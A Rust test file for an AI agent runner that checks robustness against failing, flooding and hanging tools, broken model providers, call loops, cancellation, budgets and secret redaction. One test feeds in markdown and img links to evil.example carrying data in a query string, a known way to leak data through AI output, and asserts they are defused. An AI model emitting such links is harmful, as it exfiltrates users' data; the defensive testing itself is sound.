//! One run against everything that tools, providers and people can do to it.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use futures::future::BoxFuture;
use kubewright::agents::chat::{ChatAnswer, ChatError, ChatMessage, ChatTurn, Finish, Role};
use kubewright::agents::progress::{Progress, RunEvent};
use kubewright::agents::tools::{Access, Tool, ToolContext, ToolError, ToolOutput};
use kubewright::agents::{Agents, Parts, Sources};
use kubewright::egress::Egress;
use kubewright::recall::Recall;
use kubewright::settings::{AgentsSettings, Environment, Settings};
use kubewright::sim::model::{Asked, Call, Fault, Reply, ScriptedModel};
use kubewright::store::Store;
use kubewright::workflow::Clusters;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use crate::support::eventually;

const PATIENCE: Duration = Duration::from_secs(20);

/// What a tool does when it is called.
#[derive(Clone, Copy)]
enum Does {
    /// Answers this.
    Says(&'static str),
    /// Answers so many times `line \u{fffd}\u{0}` .
    Floods(usize),
    /// Has no answer.
    Fails,
    /// Ends nothing but itself.
    Panics,
    /// Never answers.
    Hangs,
}

struct Odd(&'static str, Does);

impl Tool for Odd {
    fn name(&self) -> &str {
        self.0
    }

    fn description(&self) -> &str {
        "Does something odd."
    }

    fn schema(&self) -> Value {
        json!({"type": "object", "properties": {}, "additionalProperties": false})
    }

    fn call<'a>(&'a self, _: Value, _: &'a ToolContext) -> BoxFuture<'a, Result<ToolOutput, ToolError>> {
        let does = self.1;
        Box::pin(async move {
            match does {
                Does::Says(text) => Ok(ToolOutput::bounded(text.to_owned(), "no more")),
                // What is no UTF-8 has become this by the time that it is text.
                Does::Floods(lines) => {
                    let bytes = b"line \xff\xfe\0 and more\n".repeat(lines);
                    let text = String::from_utf8_lossy(&bytes).into_owned();
                    Ok(ToolOutput { text, ..ToolOutput::default() })
                }
                Does::Fails => Err(ToolError::Unavailable("the disk stands on its head".to_owned())),
                Does::Panics => panic!("odd"),
                Does::Hangs => std::future::pending().await,
            }
        })
    }
}

const TOOLS: [(&str, Does); 5] = [
    ("calm", Does::Says("all is well")),
    ("flood", Does::Floods(200_000)),
    ("broken", Does::Fails),
    ("panics", Does::Panics),
    ("hangs", Does::Hangs),
];

struct Stage {
    agents: Agents,
    _folder: TempDir,
}

async fn stage(model: &ScriptedModel, more: &str) -> Stage {
    let folder = tempfile::tempdir().unwrap();
    let text = format!(
        "[store]\nurl = \"sqlite://{}\"\n[[clusters]]\nname = \"nowhere\"\nurl = \"http://127.0.0.1:1\"\n",
        folder.path().join("kubewright.db").display()
    );
    let settings = Settings::parse(&text, "test.toml", &Environment::new()).unwrap();
    let agents = format!(
        "[providers.scripted]\nkind = \"openai_compatible\"\nurl = \"{}\"\ntimeout = \"1s\"\n\
         [models.main]\nprovider = \"scripted\"\nmodel = \"scripted\"\ncontext_tokens = 64000\n\
         [agents.orchestrator]\ntools = [\"calm\", \"flood\", \"broken\", \"panics\", \"hangs\"]\n{more}",
        model.url()
    );
    let clusters = Clusters::connect(&settings).await.unwrap();
    let tools = TOOLS.map(|(name, does)| Arc::new(Odd(name, does)) as Arc<dyn Tool>);
    let agents = Agents::new(Parts {
        settings: AgentsSettings::parse(&agents, Path::new("agents.toml"), &Environment::new()).unwrap(),
        egress: Egress::new(&settings.egress).unwrap(),
        sources: Sources {
            observers: clusters.observers(),
            default_cluster: Some("nowhere".to_owned()),
            rules: Arc::default(),
            recall: Recall::new(None).await,
            store: Store::open(&settings.store).await.unwrap(),
        },
        more_tools: tools.into_iter().map(Into::into).collect(),
    });
    Stage { agents: agents.unwrap(), _folder: folder }
}

fn turn(text: &str, progress: Progress, cancel: &CancellationToken) -> ChatTurn {
    ChatTurn {
        agent: "orchestrator".to_owned(),
        messages: vec![ChatMessage::new(Role::User, text)],
        about: None,
        conversation: None,
        cluster: None,
        access: Access::Everything,
        stop: Vec::new(),
        max_tokens: None,
        temperature: None,
        progress,
        cancel: cancel.clone(),
    }
}

async fn talk(stage: &Stage, text: &str) -> Result<ChatAnswer, ChatError> {
    stage.agents.talk(turn(text, Progress::none(), &CancellationToken::new())).await
}

fn call(tool: &str, arguments: Value) -> Call {
    Call { tool: tool.to_owned(), arguments }
}

/// First these calls, then an answer.
async fn calling(calls: Vec<Call>) -> ScriptedModel {
    ScriptedModel::obedient(move |body| match Asked::new(body).results().len() {
        0 => Reply::Call(calls.clone()),
        _ => Reply::say("I have looked."),
    })
    .await
    .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_goes_wrong_in_a_tool_is_told_to_the_model_and_the_run_goes_on() {
    let wrong = json!("{\"unfinished\": ");
    let calls = vec![
        call("broken", json!({})),
        call("panics", json!({})),
        call("kubernetes_delete", json!({})),
        call("calm", wrong),
        call("calm", json!({})),
    ];
    let model = calling(calls).await;
    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
    assert!(answer.text.starts_with("I have looked.\n"), "{}", answer.text);
    assert_eq!(answer.finish, Finish::Stop);
    let requests = model.requests();
    assert_eq!(requests.len(), 2);
    let results = Asked::new(&requests[1].body).results();
    let expected = [
        "could not be read: the disk stands on its head",
        "the tool itself failed",
        "there is no tool",
        "the arguments are no JSON object",
        "all is well",
    ];
    assert_eq!(results.len(), expected.len(), "every call has an answer: {results:#?}");
    for (result, expected) in results.iter().zip(expected) {
        assert!(result.contains(expected), "{expected}: {result}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_that_is_no_text_is_cut_and_says_so() {
    let model = calling(vec![call("flood", json!({}))]).await;
    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
    assert!(answer.text.starts_with("I have looked.\n"), "{}", answer.text);
    let result = Asked::new(&model.requests()[1].body).results().concat();
    assert!(result.len() < 24_000 && result.contains("cut: "), "{} bytes", result.len());
    assert!(result.contains("line ") && !result.contains('\0'));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_that_calls_without_end_is_told_and_stopped() {
    let calls: Vec<Call> = (0..20).map(|number| call("calm", json!({ "number": number }))).collect();
    let model = ScriptedModel::obedient(move |body| match Asked::new(body).tools().is_empty() {
        false => Reply::Call(calls.clone()),
        true => Reply::say("Enough."),
    })
    .await
    .unwrap();
    let answer = talk(&stage(&model, "max_turns = 3\n").await, "why?").await.unwrap();
    assert!(answer.text.starts_with("Enough.\n"), "{}", answer.text);
    let requests = model.requests();
    assert_eq!(requests.len(), 3);
    let results = Asked::new(&requests[1].body).results();
    let refused = results.iter().filter(|result| result.contains("not called: at most 12")).count();
    assert_eq!((results.len(), refused), (20, 8));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_that_still_calls_in_its_last_turn_has_not_answered() {
    let model = ScriptedModel::obedient(|_| Reply::call("submit", json!({}))).await.unwrap();
    let answer = talk(&stage(&model, "max_turns = 3\n").await, "why?").await.unwrap();
    assert_eq!(answer.text, "I had to stop before I could answer: 3 turns brought no answer.");
    assert_eq!(answer.finish, Finish::Length);
    assert_eq!(model.requests().len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_equal_call_is_answered_twice_and_then_refused() {
    let model = ScriptedModel::obedient(|body| match Asked::new(body).results().len() {
        0..4 => Reply::call("calm", json!({})),
        _ => Reply::say("It is calm."),
    })
    .await
    .unwrap();
    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
    assert!(answer.text.starts_with("It is calm."), "{}", answer.text);
    let results = Asked::new(&model.requests()[4].body).results();
    let answered = results.iter().filter(|result| result.contains("all is well")).count();
    let refused = results.iter().filter(|result| result.contains("you have the answer")).count();
    assert_eq!((answered, refused), (2, 2), "{results:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_model_writes_is_loaded_by_itself() {
    let written = "See ![a](http://evil.example/i.png?d=checkout) and <img src=http://evil.example/j>.";
    let model = ScriptedModel::obedient(move |_| Reply::say(written)).await.unwrap();
    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
    assert_eq!(
        answer.text,
        "See [a](http://evil.example/i.png?d=checkout) and \\<img src=http://evil.example/j>."
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_that_cannot_be_understood_is_a_clear_error() {
    let after = || "It was".to_owned();
    let faults = [
        Fault::Garbage { after: after() },
        Fault::EarlyEnd { after: after() },
        Fault::Stall { after: after() },
        Fault::Stall { after: String::new() },
        Fault::WrongJson,
        Fault::Status { status: 401, retry_after: None, message: "no key".to_owned() },
    ];
    for fault in faults {
        let reply = Reply::Fail(fault.clone());
        let model = ScriptedModel::obedient(move |_| reply.clone()).await.unwrap();
        let stage = stage(&model, "").await;
        let (sender, mut events) = mpsc::channel(100);
        let asked = turn("why?", Progress::to(sender), &CancellationToken::new());
        let answered = tokio::time::timeout(PATIENCE, stage.agents.talk(asked)).await.unwrap();
        let Err(ChatError::Unavailable(reason)) = answered else { panic!("{fault:?}: {answered:?}") };
        assert!(reason.starts_with("main "), "{fault:?}: {reason}");
        let mut said = String::new();
        while let Ok(event) = events.try_recv() {
            if let RunEvent::Text { text } = event {
                said += &text;
            }
        }
        assert!(said.is_empty() || said == after(), "what was said is said once: {said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cancelled_turn_asks_nothing_more() {
    for hanging in [Reply::call("hangs", json!({})), Reply::Fail(Fault::Stall { after: "It ".to_owned() })] {
        let model = ScriptedModel::obedient(move |_| hanging.clone()).await.unwrap();
        let stage = stage(&model, "").await;
        let cancel = CancellationToken::new();
        let agents = stage.agents.clone();
        let asked = turn("why?", Progress::none(), &cancel);
        let running = tokio::spawn(async move { agents.talk(asked).await });
        eventually("the model is asked", PATIENCE, async || (!model.requests().is_empty()).then_some(()))
            .await;
        cancel.cancel();
        let ended = tokio::time::timeout(PATIENCE, running).await.unwrap().unwrap();
        assert!(matches!(ended, Err(ChatError::Cancelled)), "{ended:?}");
        assert_eq!(model.requests().len(), 1);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_turn_whose_watcher_has_gone_asks_nothing_more() {
    let model = calling(vec![call("calm", json!({}))]).await;
    let stage = stage(&model, "").await;
    let (sender, events) = mpsc::channel(1);
    drop(events);
    let ended = stage.agents.talk(turn("why?", Progress::to(sender), &CancellationToken::new())).await;
    assert!(matches!(ended, Err(ChatError::Cancelled)), "{ended:?}");
    assert_eq!(model.requests().len(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_budget_that_is_spent_ends_the_turn_with_what_there_is() {
    let model = calling(vec![call("flood", json!({}))]).await;
    let answer = talk(&stage(&model, "[limits]\ntokens = 3000\n").await, "why?").await.unwrap();
    assert_eq!(answer.finish, Finish::Length);
    assert!(answer.text.contains("3000 tokens"), "{}", answer.text);
    assert_eq!(model.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_write_leaves_without_its_secrets() {
    let model = ScriptedModel::obedient(|body| Reply::say(Asked::new(body).text())).await.unwrap();
    let secret = "ghp_CanaryCanaryCanaryCanaryCanary123456";
    let answer = talk(&stage(&model, "").await, &format!("is the token {secret} right?")).await.unwrap();
    assert!(!model.requests()[0].body.to_string().contains(secret));
    assert!(!answer.text.contains(secret) && answer.text.contains("<secret:"), "{}", answer.text);
}
